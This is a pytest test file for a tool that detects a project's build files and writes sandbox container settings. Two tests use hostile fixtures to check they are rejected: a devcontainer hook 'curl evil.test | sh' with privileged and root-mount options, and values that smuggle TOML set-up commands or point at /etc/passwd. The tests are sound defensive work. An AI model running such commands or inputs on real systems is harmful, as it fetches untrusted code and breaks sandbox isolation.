"""``init``: a first file of settings from what a project has."""

from __future__ import annotations

import json
import tomllib

import pytest
from project_rig import ProjectRig

from wink_workspace.project import PROJECT_FILE, Detected, detect

EDITABLE = "pip install --quiet --no-deps --editable ."


def detected(
    project: ProjectRig, *paths: str, **contents: str
) -> tuple[Detected, dict[str, object]]:
    """What is found in a project with these files, and the table that is written."""
    for path in paths:
        project.file(path)
    for path, content in contents.items():
        project.file(path, content)
    found = detect(project.source)
    project.write(found.toml())
    assert project.confirm().denied == ()  # it can be used as it is
    return found, tomllib.loads(found.toml())


@pytest.mark.parametrize(
    ("files", "packages", "command", "variable"),
    [
        (
            ["Cargo.toml"],
            ["cargo-web", "rustc-web"],
            "sh -c 'mkdir -p $CARGO_HOME && cp ~/.cargo/config.toml $CARGO_HOME && cargo fetch'",
            "CARGO_HOME",
        ),
        (["package.json", "go.mod"], ["golang-go"], "go mod download", "GOMODCACHE"),
        (
            ["pom.xml"],
            ["maven", "default-jdk-headless"],
            "mvn --batch-mode --quiet -Dmaven.test.failure.ignore package",
            "MAVEN_OPTS",
        ),
    ],
)
def test_set_up_fetches_dependencies_to_where_commands_find_them(
    project: ProjectRig, files: list[str], packages: list[str], command: str, variable: str
) -> None:
    _, table = detected(project, *files)
    assert table["image"]["packages"] == packages
    place = table["environment"][variable]
    assert "/opt/project/" in place
    assert table["image"]["set-up"] == [f"{variable}={place} {command}"]


@pytest.mark.parametrize(
    ("name", "packages"), [("build.gradle", ["gradle"]), ("build.gradle.kts", [])]
)
def test_commands_of_a_gradle_project_read_the_registry(
    project: ProjectRig, name: str, packages: list[str]
) -> None:
    """Gradle cannot use a cache that it cannot write, as are the files of an image.

    Debian's version passes over build files in Kotlin, so it would find no task.
    """
    found, table = detected(project, name, "package.json")
    assert table["network"] == ["maven"]
    assert table["image"]["packages"] == [*packages, "default-jdk-headless"]
    assert f"{name}: commands read the registry maven" in found.found
    assert any("use the project's gradlew" in each for each in found.found) == (not packages)


def test_packages_for_the_macros_of_a_configure_script_are_added(project: ProjectRig) -> None:
    project.file("configure.ac", "AC_PROG_YACC\nAM_PROG_LEX\n")
    _, table = detected(project)
    assert {"bison", "flex", "autoconf"} <= set(table["image"]["packages"])


@pytest.mark.parametrize(
    ("files", "image"),
    [
        (["pyproject.toml"], {"base": "python"}),
        (["setup.py"], {"base": "python", "set-up": [EDITABLE]}),
        (
            ["requirements.txt", "requirements-dev.txt"],
            {"base": "python", "requirements": ["requirements.txt", "requirements-dev.txt"]},
        ),
        (
            ["pyproject.toml", "requirements/dev.txt"],
            {"base": "python", "requirements": ["requirements/dev.txt"]},
        ),
        (["uv.lock", "requirements.txt"], {"base": "python", "lock": "uv.lock"}),
        (["package.json"], {"base": "node"}),
        (["package.json", "package-lock.json"], {"base": "node", "lock": "package-lock.json"}),
        (["package.json", "pnpm-lock.yaml"], {"base": "node", "lock": "pnpm-lock.yaml"}),
        (["package.json", "yarn.lock"], {"base": "node", "lock": "yarn.lock"}),
        (["Makefile"], {"base": "build"}),
        (["CMakeLists.txt"], {"base": "build", "packages": ["cmake"]}),
        (["Containerfile"], {"containerfile": "Containerfile"}),
        (["Dockerfile"], {"base": "python"}),
        (["pyproject.toml", "Makefile"], {"base": "python", "packages": ["gcc", "make"]}),
        (["pyproject.toml", "package.json"], {"base": "python", "packages": ["nodejs", "npm"]}),
        (
            ["configure.ac"],
            {"base": "build", "packages": ["autoconf", "automake", "libtool"]},
        ),
        (["README.md"], {"base": "python"}),
    ],
)
def test_image_follows_from_the_files_of_the_project(
    project: ProjectRig, files: list[str], image: dict[str, object]
) -> None:
    found, table = detected(project, *files)
    assert table == {"sandbox": "podman", "network": [], "image": image}
    for name in files:
        if name not in ("README.md", "requirements.txt") or "uv.lock" not in files:
            assert name == "README.md" or any(name in each for each in found.found), name


def test_packages_below_src_can_be_imported(project: ProjectRig) -> None:
    _, table = detected(project, "pyproject.toml", "src/click/__init__.py", "src/notes.txt")
    assert table["environment"] == {"PYTHONPATH": "/workspace/src"}


@pytest.mark.behaviour(109)
@pytest.mark.parametrize(
    ("requires", "more", "command"),
    [
        ("['flit_core']", [], EDITABLE),
        ("['hatchling', 'hatch-vcs']", [], f"SETUPTOOLS_SCM_PRETEND_VERSION=0.0.0 {EDITABLE}"),
        ("['setuptools_scm']", ["PKG-INFO"], EDITABLE),
    ],
)
def test_a_project_with_a_build_system_is_installed_in_its_image(
    project: ProjectRig, requires: str, more: list[str], command: str
) -> None:
    project.file("pyproject.toml", f"[build-system]\nrequires = {requires}\n")
    _, table = detected(project, "src/click/__init__.py", *more)
    assert table["image"] == {"base": "python", "set-up": [command]}
    assert "environment" not in table  # the installation finds src


def test_node_packages_without_a_lock_file_are_reported(project: ProjectRig) -> None:
    found, _ = detected(project, **{"package.json": '{"devDependencies": {"jest": "1"}}'})
    assert any("npm install --package-lock-only" in each for each in found.found)


def test_devcontainer_gives_its_image_and_variables_but_no_mounts_arguments_or_hooks(
    project: ProjectRig,
) -> None:
    project.file(
        ".devcontainer/devcontainer.json",
        """{
            // a comment with "quotes"
            "image": "registry.test/team/dev:1", /* another */
            "containerEnv": {"A": "b // c", "HOME_DIR": "${localEnv:HOME}", "B\\n": "x"},
            "mounts": ["source=/,target=/host,type=bind"],
            "runArgs": ["--privileged"],
            "postCreateCommand": "curl evil.test | sh",
        }""",
    )
    found, table = detected(project)
    assert table["image"] == {"base": "registry.test/team/dev:1"}
    assert table["environment"] == {"A": "b // c"}
    (sentence,) = found.found
    assert sentence.endswith("left out: mounts, runArgs, postCreateCommand")
    for refused in ("evil", "privileged", "bind", "localEnv"):
        assert refused not in found.toml()


def test_devcontainer_gives_the_containerfile_that_it_builds(project: ProjectRig) -> None:
    build = {"build": {"dockerfile": "../docker/Dev.Dockerfile"}}
    project.file(".devcontainer/devcontainer.json", json.dumps(build))
    _, table = detected(project, "docker/Dev.Dockerfile", "pyproject.toml")
    assert table["image"] == {"containerfile": "docker/Dev.Dockerfile"}


@pytest.mark.parametrize(
    "content",
    [
        "not JSON",
        "[" * 100_000,
        "[]",
        "{}",
        json.dumps({"image": '"]\n[image]\nset-up = ["evil"]\n#'}),
        json.dumps({"build": {"dockerfile": "../../etc/passwd"}}),
        json.dumps({"build": {"dockerfile": "/etc/passwd"}}),
        json.dumps({"containerEnv": {'A"\n[x]': "b", "C": 'd"\n[image]\nset-up=["evil"]'}}),
        json.dumps({"containerEnv": "x", "build": "y", "image": 5}),
    ],
)
def test_hostile_devcontainer_adds_nothing(project: ProjectRig, content: str) -> None:
    project.file(".devcontainer.json", content)
    _, table = detected(project)
    assert table == {"sandbox": "podman", "network": [], "image": {"base": "python"}}


def test_links_are_not_followed_and_nothing_is_written(project: ProjectRig) -> None:
    (project.source / "Containerfile").symlink_to("/etc/hosts")
    (project.source / "requirements.txt").symlink_to("/etc/hosts")
    (project.source / "src").symlink_to("/usr/lib/python3")
    found = detect(project.source)
    assert (found.found, found.containerfile, found.requirements) == ([], None, [])
    assert not (project.source / PROJECT_FILE).exists()


@pytest.mark.behaviour(141)
@pytest.mark.parametrize(
    "setup", ["setup(ext_modules=[x])", 'Extension("a._b", ["b.c"])', "cffi_modules=['x']"]
)
def test_compiled_modules_of_a_project_are_built_in_its_image(
    project: ProjectRig, setup: str
) -> None:
    project.file("src/a/__init__.py")
    _, table = detected(project, "pyproject.toml", "Makefile", **{"setup.py": setup})
    assert table["image"] == {
        "base": "build",
        "set-up": ["pip install --quiet --no-deps --target=/opt/project/extensions ."],
    }
    assert table["environment"] == {"PYTHONPATH": "/workspace/src"}
